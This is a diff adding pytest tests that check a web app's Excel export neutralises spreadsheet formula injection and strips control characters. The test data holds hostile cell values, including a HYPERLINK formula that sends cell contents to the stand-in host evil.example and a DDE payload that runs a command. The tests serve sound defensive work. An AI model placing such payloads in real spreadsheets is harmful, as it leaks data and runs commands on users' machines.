@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import zipfile
 from decimal import Decimal
 
 import pytest
@@ -203,3 +204,46 @@ def test_a_title_twice_in_the_file_or_beside_an_existing_one_is_refused(tenant: 
     assert "Zeile 3" in text
     assert "Zeile 4" in text
     assert UseCase.objects.count() == 2
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("https://evil.example/?d="&A1,"Angebot öffnen")',
+    "problem": "=cmd|' /C calc'!A0",
+    "goal_metric": "+1+1",
+    "goal_baseline": "@SUM(1)",
+    "goal_target": "-20 %",
+    "process_owner": "\tTab voran",
+}
+
+
+def test_exported_text_is_never_a_formula_and_imports_back_unchanged(
+    tenant: Tenant, owner_client: Client
+) -> None:
+    """Formula injection: people's text that starts like a formula stays text in the file."""
+    use_case = services.create_use_case(tenant, HOSTILE)
+    content = excel.export(tenant)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml  # no formula anywhere
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert sheet is not None
+    row = {str(h.value): c for h, c in zip(sheet[1], sheet[2], strict=True)}
+    title = row[str(excel.headers()[1])]
+    assert title.data_type == "s"
+    assert title.value == HOSTILE["title"]
+    assert title.quotePrefix  # Excel keeps it text when someone edits the cell
+    assert all(c.data_type != "f" for c in sheet[2])
+    before = snapshot(tenant)
+    response = upload(owner_client, tenant.organisation, content)
+    assert response.status_code == 302  # type: ignore[attr-defined]
+    assert snapshot(tenant) == before
+    use_case.refresh_from_db()
+    assert (use_case.problem, use_case.goal_metric) == (HOSTILE["problem"], "+1+1")
+
+
+def test_a_control_character_in_a_title_does_not_break_the_export(tenant: Tenant) -> None:
+    use_case = services.create_use_case(tenant, {"title": "Angebote", "problem": "x"})
+    UseCase.objects.filter(pk=use_case.pk).update(title="Ange\x0bbote\x07 \x1b[31m")
+    sheet = load_workbook(io.BytesIO(excel.export(tenant))).active
+    assert sheet is not None
+    assert sheet.cell(row=2, column=2).value == "Angebote [31m"
